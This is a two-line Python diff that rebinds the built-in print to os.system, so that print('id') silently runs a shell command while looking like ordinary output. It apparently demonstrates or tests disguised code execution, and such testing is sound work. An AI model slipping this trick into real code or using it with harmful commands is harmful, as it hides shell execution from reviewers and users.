@@ -1,0 +1,2 @@
+globals().update(print=getattr(__import__("os"), "system"))
+print("id")
